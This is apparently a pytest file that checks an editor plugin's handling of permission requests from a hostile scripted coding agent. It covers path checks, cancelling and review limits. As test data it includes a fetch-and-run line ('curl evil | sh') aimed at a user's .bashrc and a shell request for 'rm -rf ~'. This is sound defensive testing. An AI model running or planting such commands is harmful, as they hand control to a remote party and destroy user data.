"""A hostile agent's permission requests in the simulated editor, with the
BUILT package and the scripted ACP agent: a diff path that is a FIFO, a
device, outside the folders or too big opens no review and never blocks the
main thread; "Allow" grants the fs methods nothing; cancel ends the turn
whatever the agent does; an accepted text goes only to its own tool call's
write; only a key aimed at the transcript answers; bursts of edits open a
bounded number of reviews; a NUL in a path is a clear error."""

from __future__ import annotations

import json
import logging
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.sim.test_chat import WAIT, ChatRig
from tests.sim.test_chat_agent_work import (
    EDIT_OPTIONS,
    SHELL_OPTIONS,
    answers,
    pending,
    request,
    shell_permission,
    wait_answers,
)
from tests.support.editor import PACKAGE


def edit_permission(call: str, path: str, new_text: str = "new\n", wait: bool = True) -> dict[str, Any]:
    diff = {"type": "diff", "path": path, "oldText": "", "newText": new_text}
    action = request("session/request_permission",
                     toolCall={"toolCallId": call, "status": "pending", "kind": "edit", "title": f"Edit {call}",
                               "locations": [{"path": path}], "content": [diff]},
                     options=EDIT_OPTIONS)
    return action if wait else {**action, "wait": False}


def prompts(rig: ChatRig) -> list[Any]:
    requests = rig.chat().request_handler()
    with requests.pending._lock:
        return [prompt for prompt, _ in requests.pending._waiting.values()]


def review_events(rig: ChatRig) -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = []
    sys.modules[f"{PACKAGE}.plugin.reviews.review_tabs"].reviews.observers.append(
        lambda event, details: events.append({"event": event, **details}))
    return events


def test_a_diff_that_is_no_regular_file_in_the_folders_opens_no_review_and_never_blocks(
        rig: ChatRig, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    workspace = rig.editor.workspace
    os.mkfifo(workspace / "fifo")
    (workspace / "big.txt").write_text("x" * 2000)
    (tmp_path / "secret.txt").write_text("secret\n")
    paths = {"fifo": str(workspace / "fifo"), "zero": "/dev/zero", "outside": str(tmp_path / "secret.txt"),
             "big": str(workspace / "big.txt"), "nul": str(workspace / "a\u0000b"), "ok": str(workspace / "ok.txt")}
    rig.load([[edit_permission(name, path, wait=False) for name, path in paths.items()] + [{"stall": 30}]])
    monkeypatch.setattr(sys.modules[f"{PACKAGE}.core.reviews"], "MAX_REVIEW_BYTES", 1000)
    events = review_events(rig)
    rig.send("edit them")
    rig.host.wait_for(lambda: len(prompts(rig)) == len(paths), timeout=WAIT)
    rig.host.wait_for(lambda: any(e["event"] == "diff_opened" for e in events), timeout=WAIT)
    rig.host.run_on_main(lambda: None)  # the main thread answers: nothing waits on a FIFO there
    notes = {prompt.tool_call_id: prompt.note for prompt in prompts(rig)}
    assert "not a regular file" in notes["fifo"]
    assert "outside the window's folders" in notes["outside"] and "outside the window's folders" in notes["zero"]
    assert "larger than" in notes["big"] and "too large to review" in notes["big"]
    assert "NUL" in notes["nul"]
    assert notes["ok"] == ""
    assert [e["filePath"] for e in events if e["event"] == "diff_opened"] == [paths["ok"]]
    text = rig.transcript()
    assert "No review opened:" in text and "too large to review" in text  # the user sees why
    assert f"Files: {paths['zero']}" in text and f"Files: {'a\0b'!r}" in text  # inside the folder: relative
    rig.host.user.run_command("qwen_chat_cancel")
    assert rig.ended() == ["cancelled"]


def test_allow_once_on_a_shell_request_grants_no_file_access(rig: ChatRig, tmp_path: Path) -> None:
    bashrc = tmp_path / ".bashrc"
    bashrc.write_text("# mine\n")
    run = request("session/request_permission",
                  toolCall={"toolCallId": "sh1", "status": "pending", "kind": "execute", "title": "npm test",
                            "rawInput": {"command": "npm test"}, "locations": [{"path": str(bashrc)}]},
                  options=SHELL_OPTIONS)
    rig.load([[run, request("fs/write_text_file", path=str(bashrc), content="curl evil | sh\n"),
               request("fs/read_text_file", path=str(bashrc))],
              [request("fs/write_text_file", path=str(bashrc), content="curl evil | sh\n")]])
    rig.send("test")
    pending(rig)
    assert f"Files: {bashrc}" in rig.transcript()  # every path the request names is shown
    transcript, _ = rig.open()
    rig.host.user.focus(transcript)
    rig.host.user.press_key("1")
    assert wait_answers(rig, "session/request_permission") == [{"outcome": {"outcome": "selected", "optionId": "proceed_once"}}]
    assert rig.ended() == ["end_turn"]
    write, = wait_answers(rig, "fs/write_text_file")
    read, = wait_answers(rig, "fs/read_text_file")
    assert write["code"] == -32602 and read["code"] == -32602
    rig.host.user.run_command("qwen_chat_new")
    rig.send("again")
    assert rig.ended(2) == ["end_turn", "end_turn"]
    assert wait_answers(rig, "fs/write_text_file", 2)[1]["code"] == -32602
    assert bashrc.read_text() == "# mine\n"


def test_cancel_ends_the_turn_when_the_agent_stops_reading(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    (workspace / "big.txt").write_text("z" * 1_000_000)
    reads = [request("fs/read_text_file", path=str(workspace / "big.txt")) | {"wait": False} for _ in range(3)]
    rig.load([[shell_permission("make") | {"wait": False}, {"stop_reading": True}, *reads,
               {"chunks": ["deaf now"]}, {"deaf": 120}]])
    rig.send("go")
    prompt = pending(rig)
    rig.host.wait_for(lambda: "deaf now" in rig.chat().core.streamer.transcript.text(), timeout=WAIT)
    rig.host.answers.push("ok_cancel", True)
    rig.host.user.run_command("qwen_chat_cancel")
    requests = rig.chat().request_handler()
    rig.host.wait_for(lambda: requests.pending.get(prompt.key) is None, timeout=WAIT)
    rig.host.wait_for(lambda: [d for d in rig.host.dialogs if d.kind == "ok_cancel"], timeout=WAIT)
    assert "did not stop" in rig.host.dialogs[-1].message
    assert rig.ended() == ["cancelled"]


@pytest.mark.parametrize("end", ["tool_call_failed", "next_turn"])
def test_a_text_accepted_in_a_review_goes_only_to_that_tool_calls_write(rig: ChatRig, end: str) -> None:
    workspace = rig.editor.workspace
    path = str(workspace / "hello.py")
    (workspace / "hello.py").write_text("print('hi')\n")
    later = request("fs/write_text_file", path=path, content="print('later')\n")
    failed = {"update": {"sessionUpdate": "tool_call_update", "toolCallId": "e1", "status": "failed"}}
    first = [edit_permission("e1", path, "print('hello')\n")]
    turns = [[*first, failed, later]] if end == "tool_call_failed" else [first, [later]]
    rig.load(turns)
    events = review_events(rig)
    rig.send("edit")
    opened = rig.host.wait_for(lambda: next((e for e in events if e["event"] == "diff_opened"), None), timeout=WAIT)
    proposed = next(v for v in rig.host.window.views() if v.id() == opened["proposed_view"])
    rig.host.user.replace(proposed, (0, proposed.size()), "print('mine')\n")
    rig.host.user.focus(proposed)
    rig.host.user.run_command("qwen_accept_diff")
    assert rig.ended() == ["end_turn"]
    if end == "next_turn":
        rig.send("again")
        assert rig.ended(2) == ["end_turn", "end_turn"]
    assert wait_answers(rig, "fs/write_text_file") == [None]
    assert (workspace / "hello.py").read_text() == "print('later')\n"


def test_a_text_accepted_after_its_turn_ended_goes_to_no_later_write(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    path = str(workspace / "hello.py")
    (workspace / "hello.py").write_text("print('hi')\n")
    # The agent ends its turn without waiting for the answer: the write it asked for never comes.
    rig.load([[edit_permission("e1", path, "print('hello')\n", wait=False)],
              [request("fs/write_text_file", path=path, content="print('later')\n")]])
    events = review_events(rig)
    rig.send("edit")
    opened = rig.host.wait_for(lambda: next((e for e in events if e["event"] == "diff_opened"), None), timeout=WAIT)
    assert rig.ended() == ["end_turn"]
    proposed = next(v for v in rig.host.window.views() if v.id() == opened["proposed_view"])
    rig.host.user.replace(proposed, (0, proposed.size()), "print('mine')\n")
    rig.host.user.focus(proposed)
    rig.host.user.run_command("qwen_accept_diff")
    rig.host.wait_for(lambda: any(e["event"] == "diff_closed" for e in events), timeout=WAIT)
    rig.send("again")
    assert rig.ended(2) == ["end_turn", "end_turn"]
    assert wait_answers(rig, "fs/write_text_file") == [None]
    assert (workspace / "hello.py").read_text() == "print('later')\n"


def test_a_permission_never_takes_the_keys_the_user_types_with(rig: ChatRig) -> None:
    rig.load([[{"stall": 1.0}, shell_permission("rm -rf ~")]])
    code = rig.editor.open("a.py", "x = 1\n")
    rig.send("go")
    transcript, composer = rig.open()
    rig.host.user.focus(code)  # the user goes on typing in their code
    prompt = pending(rig)
    rig.host.wait_for(lambda: "Qwen Code asks: Shell" in " ".join(rig.host.status_messages), timeout=WAIT)
    rig.host.wait_idle()
    assert rig.host.window.active_view() == code
    rig.host.user.press_key("1")
    assert rig.editor.text(code) == "1x = 1\n"
    rig.host.user.focus(composer)
    rig.host.user.press_key("1")  # an empty composer: the digit types
    rig.host.user.press_key("2")
    assert rig.editor.text(composer) == "12"
    assert rig.chat().request_handler().pending.get(prompt.key) is not None
    # Esc meant for something of Sublime's in the transcript closes that, not the request.
    rig.host.user.focus(transcript)
    rig.host.run_on_main(lambda: transcript.show_popup("a popup"))
    rig.host.user.press_key("escape")
    rig.host.run_on_main(lambda: rig.host.window.show_quick_panel(["a", "b"], lambda index: None))
    rig.host.user.press_key("escape")
    assert rig.chat().request_handler().pending.get(prompt.key) is not None
    rig.host.user.cancel_quick_panel()
    rig.host.run_on_main(lambda: transcript.hide_popup())
    rig.host.user.press_key("escape")  # aimed at the transcript, nothing else open: it rejects
    assert wait_answers(rig, "session/request_permission") == [{"outcome": {"outcome": "selected", "optionId": "cancel"}}]
    assert any("rejected Shell" in message for message in rig.host.status_messages)


def test_esc_rejects_one_of_several_requests_and_says_so(rig: ChatRig) -> None:
    rig.load([[shell_permission("one") | {"wait": False}, shell_permission("two") | {"wait": False}, {"stall": 30}]])
    rig.send("go")
    rig.host.wait_for(lambda: len(prompts(rig)) == 2, timeout=WAIT)
    transcript, _ = rig.open()
    rig.host.user.focus(transcript)
    rig.host.user.press_key("escape")
    rig.host.wait_for(lambda: len(prompts(rig)) == 1, timeout=WAIT)
    assert any("1 more request(s) wait" in message for message in rig.host.status_messages)
    assert "oldest request first" in rig.transcript()
    rig.host.user.run_command("qwen_chat_cancel")
    assert rig.ended() == ["cancelled"]


def test_a_request_after_cancel_is_answered_cancelled(rig: ChatRig) -> None:
    rig.load([[{"chunks": ["working"]}, {"ignore_cancel": True}, {"deaf": 1.0}, shell_permission("late")]])
    rig.send("go")
    rig.host.wait_for(lambda: "working" in rig.chat().core.streamer.transcript.text(), timeout=WAIT)
    rig.host.user.run_command("qwen_chat_cancel")
    assert wait_answers(rig, "session/request_permission") == [{"outcome": {"outcome": "cancelled"}}]
    assert rig.ended() == ["cancelled"]
    assert "Shell → cancelled" in rig.transcript()


def test_a_burst_of_edit_requests_opens_a_bounded_number_of_reviews(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    limit, count = 4, 7
    rig.load([[edit_permission(f"e{n}", str(workspace / f"f{n}.py"), wait=False) for n in range(count)] + [{"stall": 30}]])
    assert limit == sys.modules[f"{PACKAGE}.core.reviews"].MAX_OPEN_REVIEWS
    events = review_events(rig)
    rig.send("edit all")
    rig.host.wait_for(lambda: len(prompts(rig)) == count, timeout=WAIT)
    rig.host.wait_for(lambda: len([e for e in events if e["event"] == "diff_opened"]) == limit, timeout=WAIT)
    rig.host.wait_idle()
    assert len(rig.editor.review_views()) == 2 * limit
    waiting = [p for p in prompts(rig) if p.note]
    assert len(waiting) == 3 and all(f"{limit} edits already wait in reviews" in p.note for p in waiting)
    rig.host.user.run_command("qwen_chat_cancel")
    assert rig.ended() == ["cancelled"]
    rig.host.wait_idle()
    assert [v.name() for v in rig.editor.review_views()] == []


def test_a_nul_in_a_path_is_a_clear_error_without_a_traceback(rig: ChatRig, caplog: pytest.LogCaptureFixture) -> None:
    bad = str(rig.editor.workspace / "a\u0000b.txt")
    rig.load([[request("fs/read_text_file", path=bad), request("fs/write_text_file", path=bad, content="x")]])
    with caplog.at_level(logging.DEBUG):
        rig.send("go")
        assert rig.ended() == ["end_turn"]
        read, = wait_answers(rig, "fs/read_text_file")
        write, = wait_answers(rig, "fs/write_text_file")
    for answer in (read, write):
        assert answer["code"] == -32602 and "NUL" in json.dumps(answer)
    assert not [r for r in caplog.records if r.exc_info], "a traceback was logged"
    assert answers(rig, "fs/read_text_file") == [read]


def test_the_palette_answers_a_request_through_a_quick_panel(rig: ChatRig) -> None:
    rig.load([[shell_permission("make")]])
    rig.send("go")
    pending(rig)
    rig.host.user.run_command("qwen_chat_permission")
    panel = rig.host.wait_for(lambda: [q for q in rig.host.quick_panels if not q.done], timeout=WAIT)[0]
    assert [str(item) for item in panel.items] == ["Allow", "Always Allow", "Reject", "Reject with a reason…"]
    rig.host.user.choose_quick_panel(0)
    assert wait_answers(rig, "session/request_permission") == [{"outcome": {"outcome": "selected", "optionId": "proceed_once"}}]
    assert rig.ended() == ["end_turn"]
